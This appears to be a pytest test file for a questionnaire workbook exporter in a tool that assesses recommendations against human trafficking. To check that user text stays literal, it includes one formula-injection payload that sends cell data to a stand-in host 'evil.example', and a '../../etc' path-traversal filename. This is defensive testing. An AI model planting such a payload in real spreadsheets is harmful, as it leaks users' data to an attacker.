"""The questionnaire workbook on its way out: what is asked, what may be filled in, and what is not in it."""

from __future__ import annotations

import datetime
import zipfile
from dataclasses import replace
from io import BytesIO
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.utils import range_boundaries

from assessments.answers import labels
from assessments.answers.scoring import State
from assessments.answers.value import Action, ActionStatus, Answer, Assistance, Reference
from assessments.formats.print_text import direction
from assessments.offline.questionnaire import Questionnaire
from assessments.offline.returned_tables import chosen
from assessments.offline.workbook import questionnaire_xlsx
from assessments.offline.workbook_codes import ACTION, EVIDENCE, MARK, QUESTION
from assessments.offline.workbook_layout import sheet_name
from assessments.offline.workbook_tables import CellRules
from assessments.report.gap_report import ReportBody
from recommendations.outline import CriterionValue, Variant
from tests.offline.questionnaires import (
    CODE,
    MADE,
    MECHANISMS,
    NATIONAL,
    REGIONAL,
    questionnaire,
    sample_entries,
)
from tests.report.sample_reports import NORTH, outline

SHEETS = ["Start", "Questions", "Evidence", "Actions", "Missing", "Lists"]
PLAN = Reference("National plan", 2, "2024-03-01", "https://example.org/plan", "4", "A court")
TRAINING = Action(
    "Train judges", "Ministry", datetime.date(2026, 12, 31), ActionStatus.STARTED, (Assistance.LEGAL,)
)
ANSWER_113 = Answer(
    113,
    State.LEVEL,
    2,
    "The body meets every month.",
    {"113.1": CriterionValue.YES, "113.3": CriterionValue.DONT_KNOW},
    (PLAN,),
    priority=True,
    actions=(TRAINING,),
)
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def book_of(asked: Questionnaire) -> Workbook:
    return load_workbook(BytesIO(questionnaire_xlsx(asked).data))


def rows(book: Workbook, sheet: str = "Questions") -> dict[str, tuple]:
    """The cells of the rows that have a code."""
    return {str(row[0].value): row for row in book[sheet].iter_rows(min_row=3) if row[0].value}


def answer(book: Workbook, code: str):
    return rows(book)[code][2].value


def texts(book: Workbook) -> list[str]:
    return [str(c.value) for s in book for row in s.iter_rows() for c in row if c.value is not None]


def test_the_first_sheet_counts_what_is_asked() -> None:
    start = load_workbook(BytesIO(questionnaire_xlsx(questionnaire([113, 114])).data))["Start"]
    assert start["A1"].value == "Questionnaire: 2 recommendations against trafficking in persons"


def filled(*entries: Answer, **other) -> Questionnaire:
    by_paragraph = {entry.paragraph: entry for entry in entries}
    return questionnaire(by_paragraph, by_paragraph, **other)


@pytest.fixture(scope="module")
def blank() -> Workbook:
    return book_of(questionnaire())


@pytest.fixture(scope="module")
def national() -> Workbook:
    return book_of(questionnaire(body=NATIONAL))


# ── what is asked ──


def test_five_sheets_and_hidden_lists(blank) -> None:
    assert blank.sheetnames == SHEETS
    assert [sheet.title for sheet in blank if sheet.sheet_state == "hidden"] == ["Lists"]
    assert blank.active.title == "Start"


@pytest.mark.parametrize(
    ("name", "codes"), [("Questions", QUESTION), ("Evidence", EVIDENCE), ("Actions", ACTION)]
)
def test_the_first_row_names_the_columns_and_the_file(blank, name: str, codes) -> None:
    sheet = blank[name]
    assert [cell.value for cell in sheet[1]] == [*codes, f"{MARK} {CODE}"]
    assert sheet.row_dimensions[1].hidden
    assert all(sheet[2][at].value for at in range(len(codes)))
    told = book_of(questionnaire([113], content="0123456789ab"))[name]
    assert told[1][len(codes)].value == f"{MARK} {CODE} content 0123456789ab", "from which questions"
    assert (sheet.freeze_panes, sheet.print_title_rows) == ("B3", "$2:$2")


def test_each_recommendation_asks_for_all_its_parts(blank, national) -> None:
    instrument = outline()
    regional_rows, national_rows = rows(blank), rows(national)
    for recommendation in instrument.recommendations:
        number = recommendation.paragraph
        expected = [str(number), *(criterion.code for criterion in recommendation.criteria)]
        expected += [f"{number}.answer", f"{number}.priority"]
        meant = [f"{number}.m{at}" for at in range(1, 6)] if recommendation.names_mechanisms else []
        of = [code for code in national_rows if code.split(".")[0] == str(number)]
        assert of == [*expected, *meant, f"{number}.why"]
        of = [code for code in regional_rows if code.split(".")[0] == str(number)]
        assert of == [*expected, f"{number}.elsewhere", *meant, f"{number}.why"]


def test_official_text_stands_word_for_word_and_says_whose_it_is(national) -> None:
    for recommendation in outline().recommendations:
        row = rows(national)[str(recommendation.paragraph)]
        assert row[1].value == recommendation.text
        assert "A/HRC/14/32" in row[3].value
        assert row[1].protection.locked
        assert row[1].alignment.readingOrder == 1


def test_everything_that_the_question_page_shows_is_there(national) -> None:
    said = texts(national)
    for section in outline().sections:
        assert section.lead_in in said
    for recommendation in outline().recommendations:
        assert recommendation.prompts[Variant.NATIONAL] in said
        for level in recommendation.levels[Variant.NATIONAL]:
            assert any(text.endswith(level) for text in said)
        for practice in recommendation.good_practices:
            assert any(practice.who in text and practice.what in text for text in said)
        for example in recommendation.evidence_examples:
            assert any(example in text for text in said)


def test_a_statement_has_the_date_from_which_it_counts(national) -> None:
    assert rows(national)["113.3"][1].value.startswith(
        "The body, formal or not, met at least twice in the last 12 months (since 30 June 2025)"
    )


@pytest.mark.parametrize("body", [REGIONAL, NATIONAL])
def test_each_statement_offers_what_it_offers_and_says_what_that_means(blank, national, body) -> None:
    book = blank if body is REGIONAL else national
    for recommendation in outline().recommendations:
        for criterion in recommendation.criteria:
            cells = rows(book)[criterion.code]
            rule = rule_at(book, "Questions", cells[2].coordinate)
            assert [chosen(value) for value in listed(book, rule)] == list(criterion.offers(body.kind))
            meant = {"Partly": criterion.partly[body.kind], "No case arose": criterion.no_case[body.kind]}
            _asked, *below = cells[1].value.split("\n")
            assert below == [f"{name}: {said}" for name, said in meant.items() if said], criterion.code


def test_the_first_sheet_says_what_the_answers_to_a_statement_mean(blank) -> None:
    rows = [[cell.value for cell in row if cell.value] for row in blank["Start"].iter_rows()]
    for value, meaning in labels.criterion_meanings().items():
        assert [f"{value} · {labels.CRITERION_VALUES[value]}", meaning] in rows


def test_each_variant_has_its_own_titles_and_what_its_question_holds(blank, national) -> None:
    for book, variant in ((blank, Variant.REGIONAL), (national, Variant.NATIONAL)):
        said = texts(book)
        for recommendation in outline().recommendations:
            assert f"{recommendation.paragraph} · {recommendation.titles[variant]}" in said
            if recommendation.means[variant]:
                points = "".join(f"\n• {one}" for one in recommendation.means[variant])
                assert f"That means:{points}" in said


def test_what_is_called_for_or_planned_is_never_said_to_be_done(national) -> None:
    for recommendation in outline().recommendations:
        told = [text for text in texts(national) if text.startswith(("Who has done it", "Who calls for it"))]
        for practice in recommendation.good_practices:
            text = next(one for one in told if f"{practice.who} {practice.what}" in one)
            before = text.partition(practice.what)[0]
            assert ("Who calls for it" in before) is not practice.did.is_done


def test_if_no_case_can_arise_the_explanation_asks_how_one_knows(national) -> None:
    for recommendation in outline().recommendations:
        asked = rows(national)[f"{recommendation.paragraph}.why"][1].value
        offered = any(criterion.no_case[Variant.NATIONAL] for criterion in recommendation.criteria)
        assert ("If no case arose: say how you know." in asked) is offered


def test_only_what_is_asked_is_there() -> None:
    book = book_of(questionnaire([113, 128], body=NATIONAL))
    assert {code.split(".")[0] for code in rows(book)} == {"113", "128"}
    assert [row[1].value for row in book["Missing"].iter_rows(min_row=6, max_row=8)] == [
        outline().recommendation(113).titles[Variant.NATIONAL],
        outline().recommendation(128).titles[Variant.NATIONAL],
        None,
    ]


def test_an_input_has_no_priority_and_no_actions() -> None:
    book = book_of(questionnaire([113, 128], body=NATIONAL, by_input=[113, 128]))
    assert "Actions" not in book.sheetnames
    assert not [code for code in rows(book) if code.endswith("priority")]


def test_actions_are_planned_only_for_answers() -> None:
    book = book_of(questionnaire([113, 128], body=NATIONAL, by_input=[128]))
    rule = rule_at(book, "Actions", "A3")
    assert [chosen(value) for value in listed(book, rule)] == ["113"]
    assert [code for code in rows(book) if code.endswith("priority")] == ["113.priority"]


def test_the_plan_of_what_is_only_an_input_is_not_given_out() -> None:
    entries = {113: ANSWER_113, 128: replace(ANSWER_113, paragraph=128, criteria={})}
    sheet = book_of(questionnaire(entries, entries, body=NATIONAL, by_input=[128]))["Actions"]
    assert [str(cell.value)[:3] for cell in sheet["A"][2:5]] == ["113", "Non", "Non"]


# ── what may be filled in ──


def unlocked(sheet) -> set[str]:
    return {c.coordinate for row in sheet.iter_rows() for c in row if not c.protection.locked}


def ruled(sheet) -> list[str]:
    return [
        f"{row[0].column_letter}{row[0].row}"
        for rule in sheet.data_validations.dataValidation
        for part in rule.sqref.ranges
        for row in sheet[part.coord if ":" in part.coord else f"{part.coord}:{part.coord}"]
    ]


def rule_at(book: Workbook, sheet: str, cell: str):
    found = [rule for rule in book[sheet].data_validations.dataValidation if cell in rule.sqref]
    assert len(found) == 1, (sheet, cell, found)
    return found[0]


def listed(book: Workbook, rule) -> list[Any]:
    name, _mark, cells = rule.formula1.rpartition("!")
    left, top, right, bottom = (int(edge or 0) for edge in range_boundaries(cells))
    assert left == right
    sheet = book[name.strip("'")]
    return [sheet.cell(row, left).value for row in range(top, bottom + 1)]


@pytest.mark.parametrize("name", SHEETS)
def test_every_sheet_is_protected_without_a_password(blank, name: str) -> None:
    held = blank[name].protection
    assert held.sheet
    assert held.password is None
    assert held.formatColumns is False
    assert held.formatRows is False


def test_what_can_be_filled_in_is_what_is_asked(blank) -> None:
    asked = {row[2].coordinate for code, row in rows(blank).items() if "." in code}
    assert unlocked(blank["Questions"]) == asked
    for name, columns in (("Evidence", "BCDEFGH"), ("Actions", "ABCDEFGHIJ")):
        last = blank[name].max_row
        assert last >= 2 + 64
        cells = {f"{letter}{row}" for letter in columns for row in range(3, last + 1)}
        assert unlocked(blank[name]) == cells
    for name in ("Start", "Missing", "Lists"):
        assert unlocked(blank[name]) == set()


@pytest.mark.parametrize("name", ["Questions", "Evidence", "Actions"])
def test_each_cell_to_fill_in_has_one_rule_and_no_other_cell_has(blank, name: str) -> None:
    cells = ruled(blank[name])
    assert len(cells) == len(set(cells))
    assert set(cells) == unlocked(blank[name])


@pytest.mark.parametrize("name", ["Questions", "Evidence", "Actions"])
def test_cells_to_fill_in_are_seen_without_colour_and_keep_what_is_typed(blank, name: str) -> None:
    sheet = blank[name]
    for coordinate in unlocked(sheet):
        cell = sheet[coordinate]
        assert (cell.border.left.style, cell.border.bottom.style) == ("thin", "thin")
        assert cell.number_format == ("yyyy-mm-dd" if cell.is_date else "@")
        assert cell.alignment.wrap_text


@pytest.mark.parametrize(
    ("body", "code", "codes"),
    [
        (NATIONAL, "113.answer", "0 1 2 3 dont_know withheld"),
        (NATIONAL, "110.answer", "0 1 2 3 dont_know withheld not_applicable"),
        (REGIONAL, "110.answer", "0 1 2 3 dont_know withheld elsewhere"),
        (REGIONAL, "114.answer", "0 1 2 3 dont_know withheld not_applicable elsewhere"),
        (REGIONAL, "113.1", "yes no dont_know"),
        (NATIONAL, "113.1", "yes partly no dont_know"),
        (NATIONAL, "137.4", "yes no no_case dont_know"),
        (NATIONAL, "131.3", "yes partly no no_case dont_know"),
        (REGIONAL, "113.priority", "yes no"),
        (REGIONAL, "113.elsewhere", "asean osce"),
        (REGIONAL, "110.m1", "asean northern-mechanism osce"),
    ],
)
def test_lists_hold_the_codes_that_are_allowed(blank, national, body, code, codes) -> None:
    book = blank if body is REGIONAL else national
    rule = rule_at(book, "Questions", rows(book)[code][2].coordinate)
    assert (rule.type, rule.showErrorMessage, rule.errorStyle) == ("list", True, None)
    assert [chosen(value) for value in listed(book, rule)] == codes.split()


def test_lists_of_evidence_and_actions(blank) -> None:
    paragraphs = [str(number) for number in range(106, 138)]
    expected = {
        ("Evidence", "B3"): paragraphs,
        ("Evidence", "D9"): list("0123"),
        ("Actions", "A3"): paragraphs,
        ("Actions", "E3"): ["planned", "started", "done", "dropped"],
        ("Actions", "J66"): ["yes", "no"],
    }
    for (sheet, cell), codes in expected.items():
        assert [chosen(v) for v in listed(blank, rule_at(blank, sheet, cell))] == codes


def test_the_strength_says_what_it_needs(blank) -> None:
    hint = rule_at(blank, "Evidence", "D3").prompt
    assert "2: public, needs a date" in hint
    assert "3: confirmed by another source" in hint


def test_a_date_is_asked_about_and_not_refused(blank) -> None:
    rule = rule_at(blank, "Actions", "D3")
    assert (rule.type, rule.errorStyle) == ("date", "warning")
    assert "2026-06-30" in rule.prompt


def test_a_document_is_dated_in_a_cell_of_text_since_a_program_would_fill_in_a_day(blank) -> None:
    rule = rule_at(blank, "Evidence", "E3")
    assert (rule.type, rule.formula1, rule.errorStyle) == ("textLength", "10", "warning")
    assert "2026-06, 2026" in rule.prompt
    assert blank["Evidence"]["E3"].number_format == "@"


def test_texts_have_the_limits_of_the_product(blank) -> None:
    why = rule_at(blank, "Questions", rows(blank)["113.why"][2].coordinate)
    assert (why.type, why.formula1) == ("textLength", "20000")
    assert "20000" in why.error


def test_no_message_is_longer_than_excel_takes() -> None:
    rules = CellRules(Workbook().create_sheet(), {"list": "'Lists'!$A$2:$A$9"})
    rules.choose("A1", "list", "a" * 300)
    rule = rules.sheet.data_validations.dataValidation[0]
    assert (len(rule.prompt), len(rule.errorTitle) <= 32) == (255, True)


def test_without_any_mechanism_the_workbook_is_made_all_the_same() -> None:
    book = book_of(questionnaire([113], mechanisms={}))
    assert listed(book, rule_at(book, "Questions", rows(book)["113.elsewhere"][2].coordinate)) == [None]


# ── what stands in it ──


def test_a_blank_one_has_nothing_in_any_cell_to_fill_in(blank) -> None:
    for sheet in blank:
        held = [sheet[cell].value for cell in unlocked(sheet)]
        assert held == [None] * len(held)


def test_a_blank_one_holds_no_answer_even_if_it_is_given_some() -> None:
    asked = replace(filled(ANSWER_113, body=NATIONAL), filled=False)
    said = " ".join(texts(book_of(asked)))
    for word in ("meets every month", "National plan", "Train judges", "113.e1", "A court"):
        assert word not in said


def test_a_filled_one_holds_the_answer() -> None:
    book = book_of(filled(ANSWER_113, body=NATIONAL))
    assert answer(book, "113.answer") == "2 · In operation"
    assert answer(book, "113.1") == "yes · Yes"
    assert answer(book, "113.2") is None
    assert answer(book, "113.3") == "dont_know · Don’t know"
    assert answer(book, "113.priority") == "yes · Yes"
    assert answer(book, "113.why") == "The body meets every month."
    assert [cell.value for cell in book["Evidence"][3]][:8] == [
        "113.e1",
        "113 · A national body that coordinates and oversees the work",
        "National plan",
        "2 · Public document",
        "2024-03-01",
        "https://example.org/plan",
        "4",
        "A court",
    ]
    planned = [cell.value for cell in book["Actions"][3]]
    assert planned[:4] == [
        "113 · A national body that coordinates and oversees the work",
        "Train judges",
        "Ministry",
        datetime.datetime(2026, 12, 31),
    ]
    assert planned[4:10] == ["started · Started", None, "yes · Yes", None, None, None]


def test_a_reference_that_stands_keeps_its_recommendation() -> None:
    sheet = book_of(filled(ANSWER_113, body=NATIONAL))["Evidence"]
    assert sheet["A3"].protection.locked
    assert sheet["B3"].protection.locked
    assert not sheet["C3"].protection.locked
    assert not sheet["B4"].protection.locked
    assert sheet.max_row >= 3 + 40


@pytest.mark.parametrize(
    ("state", "stands"),
    [
        (State.BLANK, None),
        (State.DONT_KNOW, "dont_know"),
        (State.WITHHELD, "withheld"),
        (State.NOT_APPLICABLE, "not_applicable"),
        (State.ELSEWHERE, "elsewhere"),
    ],
)
def test_each_state_stands_as_its_code(state: State, stands: str | None) -> None:
    entry = Answer(114, state, elsewhere="osce" if state is State.ELSEWHERE else "")
    book = book_of(filled(entry))
    held = answer(book, "114.answer")
    assert (chosen(held) if held else None) == stands
    if state is State.ELSEWHERE:
        assert chosen(answer(book, "114.elsewhere")) == "osce"


def test_zero_is_an_answer() -> None:
    assert answer(book_of(filled(Answer(113, State.LEVEL, 0))), "113.answer").startswith("0 ·")


@pytest.mark.parametrize(("held", "room"), [(0, 5), (2, 5), (5, 6), (7, 8)])
def test_there_is_always_room_for_one_mechanism_more(held: int, room: int) -> None:
    bodies = {f"mechanism-{number}": f"No. {number}" for number in range(held)}
    entry = Answer(110, State.BLANK, mechanisms=tuple(bodies))
    book = book_of(filled(entry, mechanisms={**MECHANISMS, **bodies}))
    meant = {code: row[2].value for code, row in rows(book).items() if code.startswith("110.m")}
    assert list(meant) == [f"110.m{number}" for number in range(1, room + 1)]
    assert [chosen(value) for value in meant.values() if value] == list(bodies)


def test_confidential_references_are_counted_and_no_row() -> None:
    asked = filled(ANSWER_113, body=NATIONAL, kept_back={113: 2})
    sheet = book_of(asked)["Evidence"]
    assert sheet["I2"].value.startswith("2 confidential references stay in ThirtyTwo")
    assert [cell.value for cell in sheet["A"][2:6]] == ["113.e1", None, None, None]
    assert sheet["I1"].value == f"{MARK} {CODE}"


@pytest.mark.parametrize(
    "text",
    [
        HOSTILE,
        "+1",
        "-1",
        "@SUM(1)",
        "  =1",
        "1.5",
        "2026-06-30",
        "TRUE",
        "'quoted",
        "_x0041_",
        "😀 中文 العربية",
        "a\nb\n\nc\td",
        "x" * 20_000,
    ],
)
def test_a_text_stays_the_text_it_is(text: str) -> None:
    entry = Answer(113, State.BLANK, explanation=text, evidence=(Reference(text[:500], 0),))
    book = book_of(filled(entry, body=NATIONAL, note=text, for_whom=text[:200]))
    cells = (rows(book)["113.why"][2], book["Evidence"]["C3"])
    literal = text.replace("_x0041_", "_x005F_x0041_")
    assert [cell.value for cell in cells] == [literal, literal[:500]]
    assert {(cell.data_type, cell.number_format) for cell in cells} == {("s", "@")}
    formulas = {s.title for s in book for r in s.iter_rows() for c in r if c.data_type == "f"}
    assert formulas == {"Missing"}


def test_a_line_end_of_windows_is_one_line_end() -> None:
    entry = Answer(113, State.BLANK, explanation="a\r\nb\rc")
    assert answer(book_of(filled(entry)), "113.why") == "a\nb\nc"


@pytest.mark.parametrize("text", ["_x0041_" * 2857, "😀" * 17_000], ids=["escapes", "emoji"])
def test_a_text_too_long_for_a_cell_stays_in_the_product_whole(text: str) -> None:
    book = book_of(filled(Answer(113, State.LEVEL, 1, text)))
    assert "113.why" not in rows(book)
    assert any("does not fit into a cell" in said for said in texts(book))
    assert not [cell for row in book["Questions"].iter_rows() for cell in row if "…" in str(cell.value)]


# ── the first sheet ──


def test_the_first_sheet_says_what_this_is_and_how_to_return_it() -> None:
    asked = questionnaire(
        [113],
        body=NATIONAL,
        for_whom="Ministry of Justice",
        due=datetime.date(2026, 9, 15),
        note="Please call me.",
        sample=True,
    )
    said = [str(c.value) for row in book_of(asked)["Start"].iter_rows() for c in row if c.value]
    for expected in (
        "Southern Task Force",
        "Ministry of Justice",
        "15 September 2026",
        "Please call me.",
        "Sample data: an invented body with invented answers",
        CODE,
        "2 · In operation",
        "dont_know · Don’t know",
    ):
        assert expected in said
    whole = " ".join(said)
    for expected in ("Return this file", "Enable Editing", "no macros", "personal data of victims"):
        assert expected in whole
    assert "Confidential: this file holds answers" not in whole
    assert "elsewhere" not in whole


def test_a_filled_one_says_loudly_that_it_holds_answers() -> None:
    said = texts(book_of(filled(ANSWER_113, body=NATIONAL)))
    assert any(text.startswith("Confidential: this file holds answers.") for text in said)


@pytest.mark.parametrize(
    ("other", "name"),
    [
        ({}, "northern-mechanism-2026-questionnaire.xlsx"),
        ({"filled": True}, "northern-mechanism-2026-questionnaire-filled.xlsx"),
        (
            {"for_whom": "Ministry of Justice"},
            "northern-mechanism-2026-questionnaire-ministry-of-justice.xlsx",
        ),
        ({"for_whom": "وزارة العدل"}, "northern-mechanism-2026-questionnaire-3f0c2a52.xlsx"),
        ({"for_whom": "../../etc"}, "northern-mechanism-2026-questionnaire-etc.xlsx"),
    ],
)
def test_the_name_of_the_file(other, name: str) -> None:
    assert questionnaire_xlsx(questionnaire([113], **other)).filename == name


# ── the file ──


def test_the_same_bytes_twice_and_one_date_inside() -> None:
    asked = questionnaire(entries=sample_entries(NORTH))
    data = questionnaire_xlsx(asked).data
    assert data == questionnaire_xlsx(asked).data
    with zipfile.ZipFile(BytesIO(data)) as archive:
        assert {member.date_time for member in archive.infolist()} == {(2026, 7, 3, 14, 3, 4)}
        core = archive.read("docProps/core.xml").decode()
    assert core.count("2026-07-03T14:03:05Z") == 2
    assert MADE.year == 2026


def test_its_properties_name_the_body_and_no_machine() -> None:
    properties = book_of(questionnaire([113])).properties
    assert properties.title == "Questionnaire of Northern Mechanism, 2026"
    assert (properties.creator, properties.lastModifiedBy) == ("Northern Mechanism", None)
    assert properties.language == "en"


@pytest.mark.parametrize(("language", "turned"), [("en", False), ("ar", True)])
def test_a_language_from_right_to_left_turns_every_sheet(language: str, turned: bool) -> None:
    book = book_of(questionnaire([113], language=language))
    assert {bool(sheet.sheet_view.rightToLeft) for sheet in book} == {turned}


def test_a_text_says_from_where_it_is_read_and_an_empty_cell_leaves_it_open() -> None:
    book = book_of(questionnaire([113], language="ar"))
    cells = [cell for sheet in book.worksheets[:4] for row in sheet.iter_rows(max_col=3) for cell in row]
    texts = [cell for cell in cells if isinstance(cell.value, str) and direction(cell.value) == "rtl"]
    assert len(texts) > 50
    assert {cell.alignment.readingOrder for cell in texts} == {2}
    empty = [cell for cell in cells if cell.value is None and not cell.protection.locked]
    assert {cell.alignment.readingOrder for cell in empty} == {0}


def test_a_body_with_codes_in_its_name_changes_no_head() -> None:
    body = ReportBody("a-b", "A&B &D [x]", Variant.REGIONAL)
    book = book_of(questionnaire([113], body=body))
    head = book["Questions"].oddHeader
    assert head is not None
    assert head.left.text == "A&&B &&D [x], 2026"


@pytest.mark.parametrize(
    ("title", "name"), [("Questions", "Questions"), ("A/B: [c]?", "A B   c"), ("a" * 40, "a" * 31)]
)
def test_names_of_sheets_are_such_that_excel_takes_them(title: str, name: str) -> None:
    assert sheet_name(title) == name


def test_it_prints_on_a4_with_heads_on_each_page(blank) -> None:
    for name in ("Start", "Questions", "Evidence", "Actions", "Missing"):
        sheet = blank[name]
        assert sheet.page_setup.paperSize == 9
        assert sheet.oddHeader.left.text == "Northern Mechanism, 2026"
    for name in ("Start", "Evidence", "Actions", "Missing"):
        assert blank[name].sheet_properties.pageSetUpPr.fitToPage
        assert (blank[name].page_setup.fitToWidth, blank[name].page_setup.fitToHeight) == (1, 0)


def test_pages_are_numbered() -> None:
    with zipfile.ZipFile(BytesIO(questionnaire_xlsx(questionnaire([113])).data)) as archive:
        sheets = [archive.read(f"xl/worksheets/sheet{number}.xml") for number in range(1, 6)]
    assert all(b"<oddFooter>&amp;R&amp;P / &amp;N</oddFooter>" in sheet for sheet in sheets)


def test_each_group_begins_a_page(blank) -> None:
    sheet = blank["Questions"]
    after = {line.id for line in sheet.row_breaks.brk}
    titles = {s.title for s in outline().sections}
    heads = [
        row[1].row
        for row in sheet.iter_rows(min_row=4)
        if any(str(row[1].value) == f"({s.letter}) {s.title}" for s in outline().sections)
    ]
    assert len(heads) == len(titles) - 1
    assert {row - 1 for row in heads} <= after


def test_what_is_missing_is_counted_over_whole_columns_by_functions_both_programs_know(blank) -> None:
    formulas = [c.value for row in blank["Missing"].iter_rows() for c in row if c.data_type == "f"]
    assert len(formulas) > 32 * 8
    for formula in formulas:
        assert not formula.startswith("{")
        assert len(formula) < 8192
    used = " ".join(formulas)
    assert "Questions'!$C$3:$C$" in used
    assert "#REF!" not in used
